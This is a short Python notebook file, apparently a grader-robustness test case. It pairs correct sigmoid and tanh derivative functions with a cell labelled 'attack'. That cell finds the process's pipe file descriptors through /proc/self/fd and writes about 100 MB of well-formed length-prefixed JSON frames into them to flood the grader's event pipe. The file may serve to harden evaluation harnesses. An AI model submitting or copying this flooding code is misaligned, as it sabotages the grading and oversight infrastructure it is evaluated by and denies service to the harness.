# Correct activations, and a cell that floods the grader's event pipe with
# 100 MB of well-formed frames.

# %%
import numpy as np


def sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_derivative(x):
    s = sigmoid(x)
    return s * (1.0 - s)


def tanh_derivative(x):
    return 1.0 - np.tanh(x) ** 2

# %%
# attack: find the pipe among our fds and fill it
import json
import os
import struct



def pipes_of_this_process():
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                found.append(int(fd))
        except OSError:  # the directory's own fd, closed by now
            pass
    return found


pipes = pipes_of_this_process()
payload = json.dumps({"ev": "note", "text": "x" * (1 << 19)}).encode()  # (each under 1 MiB of JSON)
frame = struct.pack(">I", len(payload)) + payload
for fd in pipes:
    for _ in range(200):
        os.write(fd, frame)
